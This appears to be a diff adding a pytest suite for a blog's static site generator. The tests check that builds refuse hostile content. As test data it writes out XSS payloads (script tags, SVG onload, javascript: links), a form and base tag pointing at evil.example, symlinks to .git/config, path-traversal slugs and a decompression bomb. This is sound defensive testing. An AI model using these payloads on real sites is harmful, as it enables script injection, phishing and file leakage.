@@ -1,0 +1,333 @@
+"""Hostile and careless content, in one place (issue 15): what an author commits can't
+run script, leak a file, or silently corrupt the site.
+
+Each refused input is built with the real `invoke build` (or `invoke preview` for a
+publish) in a git-tracked copy of the project, several inputs per build (every problem
+is reported in one list). For every refused input: the exit code is not 0, the previous
+output/ is untouched, no traceback is shown, and the report names the source file.
+Hostile-looking text that is accepted (code samples, escaped markup) is built and
+loaded in Chromium, where no script from the content may run."""
+
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from PIL import Image
+
+from conftest import copy_project, invoke, serve_folder
+
+SCRIPT_RAN = "window.__content_script_ran"
+
+
+def article(slug, body="We rest. We ask for help.", **fields):
+    header = {
+        "Title": f"Article {slug}",
+        "Date": "2025-01-10 09:00",
+        "Author": "Maya Okafor",
+        "Category": "Self-care",
+        "Tags": "rest",
+        "Slug": slug,
+        "Summary": "Why rest helps, in plain words.",
+        **fields,
+    }
+    lines = [f"{key}: {value}" for key, value in header.items() if value is not None]
+    return "\n".join(lines) + "\n\n" + body + "\n"
+
+
+def git(project, *args):
+    subprocess.run(
+        ["git", "-c", "user.name=Test", "-c", "user.email=test@example.org", *args],
+        cwd=project,
+        check=True,
+        capture_output=True,
+    )
+
+
+@pytest.fixture(scope="module")
+def project(tmp_path_factory):
+    """A copy of the project, committed to its own git repository, with a previous build
+    in output/ (a single marker page) that a refused build must leave as it is."""
+    project = copy_project(tmp_path_factory.mktemp("hostile") / "project")
+    git(project, "init", "-q")
+    git(project, "add", "-A")
+    git(project, "commit", "-q", "-m", "sample site")
+    return project
+
+
+def snapshot(folder):
+    return {
+        path.relative_to(folder).as_posix(): path.read_bytes()
+        for path in sorted(folder.rglob("*"))
+        if path.is_file()
+    }
+
+
+class Attempt:
+    """Files added to the project, one build, then the project restored."""
+
+    def __init__(self, project, tmp_path):
+        self.project, self.tmp_path = project, tmp_path
+        self.output = project / "output"
+        self.output.mkdir(exist_ok=True)
+        (self.output / "index.html").write_text("<p>the previous build</p>\n")
+        self.before = snapshot(self.output)
+        self.added = []
+
+    def write(self, name, data, commit=True):
+        path = self.project / "content" / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if isinstance(data, bytes):
+            path.write_bytes(data)
+        else:
+            path.write_text(data, encoding="utf-8")
+        self.added.append(path)
+        if commit:
+            git(self.project, "add", "-f", str(path))
+        return path
+
+    def link(self, name, target):
+        path = self.project / "content" / name
+        path.symlink_to(target)
+        self.added.append(path)
+        git(self.project, "add", str(path))
+
+    def build(self, task="build"):
+        env = {"SITEURL": "https://blog.example.org"} if task == "preview" else None
+        return invoke(task, "--output", str(self.output), cwd=self.project, env=env, check=False)
+
+    def restore(self):
+        git(self.project, "reset", "-q", "--hard")
+        git(self.project, "clean", "-q", "-fdx", "content")
+        for path in self.added:
+            if path.is_symlink() or path.exists():
+                path.unlink()
+
+    def assert_refused(self, result, *names):
+        output = result.stdout + result.stderr
+        assert result.returncode != 0, output
+        assert "Traceback" not in output, output
+        assert snapshot(self.output) == self.before, "a refused build changed output/"
+        report = [line for line in output.splitlines() if " — " in line]
+        for name in names:
+            assert any(f"content/{name}" in line for line in report), (name, output)
+        return output
+
+
+@pytest.fixture
+def attempt(project, tmp_path):
+    attempt = Attempt(project, tmp_path)
+    yield attempt
+    attempt.restore()
+
+
+def decompression_bomb(path):
+    """A small PNG that says it is 10,000 x 10,000 pixels: more than Pillow's limit."""
+    Image.new("1", (10_000, 10_000)).save(path, optimize=True)
+    return path.read_bytes()
+
+
+def test_files_that_would_leak_run_script_or_be_published_wrongly_stop_the_build(attempt, tmp_path):
+    secret = tmp_path / "outside-the-repository.txt"
+    secret.write_text("token=not-for-the-web\n")
+    attempt.link("extra/notes.txt", secret)
+    attempt.link("images/config", "../../.git/config")
+    attempt.write("images/evil.js", "document.title = 'pwned'\n")
+    attempt.write("extra/page.html", "<script>document.title = 'pwned'</script>\n")
+    attempt.write(
+        "images/diagram.svg",
+        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
+    )
+    attempt.write(
+        "images/badge.svg",
+        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject/></svg>\n',
+    )
+    attempt.write("images/photo.png", b"\xff\xd8\xff\xe0 a JPEG named .png")
+    attempt.write("images/truncated.jpg", (Path(__file__).parent / "../content/images")
+                  .resolve().joinpath("calm-harbor-dawn.jpg").read_bytes()[:2000])  # fmt: skip
+    attempt.write("images/bomb.png", decompression_bomb(tmp_path / "bomb.png"))
+    attempt.write("images/notes.md", "Title: Notes\n\nText.\n")
+    attempt.write("articles/new-post.MD", article("new-post"))
+    attempt.write("extra/tool.exe", b"MZ")
+    result = attempt.build()
+    output = attempt.assert_refused(
+        result,
+        "extra/notes.txt",
+        "images/config",
+        "images/evil.js",
+        "extra/page.html",
+        "images/diagram.svg",
+        "images/badge.svg",
+        "images/photo.png",
+        "images/truncated.jpg",
+        "images/bomb.png",
+        "images/notes.md",
+        "articles/new-post.MD",
+        "extra/tool.exe",
+    )
+    assert "symbolic link" in output and "not-for-the-web" not in output
+
+
+@pytest.mark.parametrize(
+    "field, value, words",
+    [
+        ("Date", "0001-01-01 09:00", "before 1990"),
+        ("Title", "Rest\x0bnow", "vertical tab"),
+        ("Summary", "Pasted\x0cfrom Word", "form feed"),
+    ],
+)
+def test_impossible_dates_and_control_characters_stop_the_build(attempt, field, value, words):
+    attempt.write("articles/typo.md", article("typo", **{field: value}))
+    output = attempt.assert_refused(attempt.build(), "articles/typo.md")
+    assert words in output
+
+
+BODY_PAYLOADS = {
+    "script-src": 'Rest <script src="/images/evil.js"></script> now.',
+    "inline-script": "<script>window.__content_script_ran = true</script>",
+    "iframe-svg": '<iframe src="{static}/images/logo.png"></iframe>',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "unquoted-javascript": "<a href=javascript:alert(1)>unquoted</a>",
+    "entity-javascript": '<a href="jav&#x09;ascript:alert(1)">tabbed</a>',
+    "markdown-javascript": "[click](javascript:alert(1))",
+    "event-handler": '<p onclick="alert(1)">Click me</p>',
+    "unquoted-remote-image": "<img src=https://evil.example/pixel.png alt=tracker>",
+    "data-url": '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="x">',
+    "style": "<style>body { display: none }</style>",
+    "form": '<form action="https://evil.example/"><input name="ssn"></form>',
+    "object": '<object data="{static}/images/logo.png"></object>',
+    "base": '<base href="https://evil.example/">',
+}
+
+
+def test_script_and_embedded_documents_in_a_body_are_errors_naming_file_and_line(attempt):
+    for name, payload in BODY_PAYLOADS.items():
+        attempt.write(f"articles/{name}.md", article(name, body=f"We rest.\n\n{payload}\n"))
+    output = attempt.assert_refused(attempt.build(), *(f"articles/{n}.md" for n in BODY_PAYLOADS))
+    for name in BODY_PAYLOADS:
+        # The body starts on line 9 of these files: the payload is on line 11.
+        assert f"content/articles/{name}.md:11: " in output, (name, output)
+
+
+def test_addresses_that_belong_to_the_build_or_to_another_file_are_errors(attempt):
+    attempt.write("articles/theme-file.md", article("theme-file", Save_as="theme/js/theme.js"))
+    attempt.write("articles/search.md", article("search-index", Save_as="pagefind/x.js"))
+    attempt.write("pages/tags.md", "Title: Clash\nSlug: tags\nSummary: A page.\n\nText.\n")
+    output = attempt.assert_refused(
+        attempt.build(), "articles/theme-file.md", "articles/search.md", "pages/tags.md"
+    )
+    assert "theme's files" in output and "tags/index.html" in output
+
+
+@pytest.mark.parametrize("field, value", [("Save_as", "../outside.html"), ("Slug", "../../x")])
+def test_an_address_outside_the_site_stops_the_build(attempt, field, value):
+    attempt.write("articles/outside.md", article("outside", **{field: value}))
+    output = attempt.assert_refused(attempt.build(), "articles/outside.md")
+    assert value in output
+
+
+def test_a_page_that_would_replace_the_feed_is_refused_by_a_publish(attempt):
+    attempt.write("articles/feed.md", article("feed", Save_as="feeds/all.atom.xml"))
+    output = attempt.assert_refused(attempt.build("preview"), "articles/feed.md")
+    assert "feeds/all.atom.xml" in output
+
+
+def test_a_duplicate_slug_is_blamed_on_the_new_file_not_the_published_one(attempt, project):
+    existing = sorted((project / "content" / "articles").glob("*.md"))[0]
+    header = dict(
+        line.split(": ", 1)
+        for line in existing.read_text(encoding="utf-8").split("\n\n")[0].splitlines()
+    )
+    later = f"{int(header['Date'][:4]) + 1}{header['Date'][4:]}"  # a year after it
+    attempt.write("articles/zz-new.md", article(header["Slug"], Date=later, Status="draft"))
+    output = attempt.assert_refused(attempt.build(), "articles/zz-new.md")
+    blamed = [line for line in output.splitlines() if ": Slug: " in line]
+    assert blamed and all("zz-new.md" in line.split(": Slug: ")[0] for line in blamed), blamed
+
+
+def test_tags_split_on_commas_only(attempt):
+    attempt.write("articles/tags.md", article("tags", Tags="sleep, stress; rest"))
+    output = attempt.assert_refused(attempt.build(), "articles/tags.md")
+    assert "Tags: sleep, stress, rest" in output
+
+
+def test_the_practice_details_the_theme_needs_are_checked(attempt, project):
+    practice = project / "content" / "data" / "practice.toml"
+    text = practice.read_text(encoding="utf-8")
+    lines = [line for line in text.splitlines() if not line.startswith("booking_url")]
+    practice.write_text(
+        "\n".join(lines).replace('phone = "(555) 010-0142"', 'phone = "call us"') + "\n"
+    )
+    output = attempt.assert_refused(attempt.build(), "data/practice.toml")
+    assert "booking_url: missing" in output and "phone: 'call us'" in output
+
+
+def test_a_toml_syntax_error_names_the_file_and_line(attempt, project):
+    authors = project / "content" / "data" / "authors.toml"
+    text = authors.read_text(encoding="utf-8")
+    authors.write_text(text.replace('credential = "LCSW"', "credential = LCSW", 1))
+    output = attempt.assert_refused(attempt.build(), "data/authors.toml")
+    assert "content/data/authors.toml:" in output
+
+
+def test_files_git_does_not_hold_refuse_a_publish_and_warn_in_development(attempt, project):
+    (project / ".gitignore").write_text("content/images/private/\n", encoding="utf-8")
+    git(project, "add", ".gitignore")
+    ignored = attempt.write("images/private/scan.png", b"", commit=False)
+    Image.new("RGB", (4, 4)).save(ignored)
+    untracked = attempt.write("images/draft-photo.png", b"", commit=False)
+    Image.new("RGB", (4, 4)).save(untracked)
+    output = attempt.assert_refused(
+        attempt.build("preview"), "images/private/scan.png", "images/draft-photo.png"
+    )
+    assert "ignored by git" in output and "not committed" in output
+    development = attempt.build()
+    assert development.returncode == 0, development.stdout + development.stderr
+    assert "images/draft-photo.png: is not committed" in development.stderr
+
+
+ACCEPTED = (
+    "Code samples show markup as text: `<script>window.__content_script_ran = true</script>`\n"
+    "\n"
+    '    <img src=x alt=x onerror="window.__content_script_ran = true">\n'
+    "\n"
+    "Escaped: &lt;script&gt;window.__content_script_ran = true&lt;/script&gt; and a "
+    "[safe link](https://example.org/?q=<script>).\n"
+)
+
+
+def test_hostile_looking_text_that_passes_never_runs_in_chromium(attempt, page):
+    attempt.write("articles/code-sample.md", article("code-sample", body=ACCEPTED))
+    result = attempt.build()
+    assert result.returncode == 0, result.stdout + result.stderr
+    server = serve_folder(attempt.output)
+    dialogs = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    try:
+        page.goto(f"http://127.0.0.1:{server.server_address[1]}/articles/code-sample/")
+        page.wait_for_load_state("load")
+        assert page.evaluate(f"() => {SCRIPT_RAN} === undefined")
+        assert "<script>" in page.inner_text("main")
+    finally:
+        server.shutdown()
+    assert dialogs == []
+
+
+def test_a_line_of_brackets_is_checked_in_bounded_time():
+    """The checker's patterns are linear: the quadratic ones took minutes on a 100 KB line
+    of `![![![`; here 400 KB must be checked within the time limit of the subprocess.
+    (Python-Markdown's own time on it is bounded by the build.)"""
+    script = (
+        "import pathlib, sys; sys.path[:0] = ['.', 'plugins', 'plugins/content_checks']\n"
+        "from test_source_checks import article, problems\n"
+        "print(len(problems(pathlib.Path('.'), article(body='![' * 150_000 + '<img' * 25_000))))"
+    )
+    result = subprocess.run(
+        [sys.executable, "-c", script],
+        cwd=Path(__file__).resolve().parent.parent,
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=False,
+    )
+    assert result.returncode == 0, result.stderr
